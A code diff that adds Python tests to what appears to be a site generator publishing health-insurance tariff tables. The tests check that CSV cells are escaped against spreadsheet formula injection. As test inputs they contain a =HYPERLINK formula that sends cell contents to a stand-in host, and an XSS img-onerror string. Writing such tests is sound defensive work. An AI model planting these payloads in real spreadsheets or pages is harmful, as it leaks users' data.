@@ -194,3 +194,39 @@ def test_an_abbreviations_meaning_enters_the_search_index_as_text():
     index = json.dumps({"config": {}, "docs": [{"location": "a/", "title": "A", "text": "De POH belt."}]})
     text = json.loads(expand_search_index(index, glossary))["docs"][0]["text"]
     assert "<img" not in text and "&lt;img src=x onerror=alert(1)&gt;" in text
+
+
+def test_no_csv_cell_starts_a_formula():
+    # A spreadsheet runs a cell that starts with = + - @ (or a tab or carriage return) as a formula
+    # (=HYPERLINK(…) leaks data on click). OWASP's advice: start such a cell with an apostrophe.
+    from generator.escape import csv_cell
+
+    for hostile in ['=HYPERLINK("http://e.test","x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1"]:
+        assert csv_cell(hostile) == "'" + hostile
+    for plain in ["Eemland", "3,23", "2026", "< 5", "POH-GGZ", "", 12, None]:
+        assert csv_cell(plain) == plain
+
+
+def test_every_published_csv_cell_is_neutral(tmp_path):
+    # The attack: an insurer's name that is a formula, in the tariffs table.
+    import csv
+    import io
+
+    from conftest import copy_project
+
+    from generator.contexts import Lookups, build_contexts
+    from generator.project import load_project
+
+    project = copy_project(tmp_path / "p", with_regions=True)
+    project.replace(
+        "data/regios/zuid-holland-noord.yml",
+        "    - verzekeraar: Zorg en Zekerheid\n",
+        '    - verzekeraar: \'=HYPERLINK("http://e.test/?"&A1;"Z")\'\n',
+    )
+    lookups = Lookups(load_project(project.root), __import__("datetime").date(2026, 12, 5))
+    tables = [c for c in build_contexts(lookups) if c.path.endswith(".csv")]
+    assert tables
+    for table in tables:
+        for row in csv.reader(io.StringIO(table.content)):
+            assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row), (table.path, row)
+    assert any("'=HYPERLINK" in table.content for table in tables)  # the name is there, as text
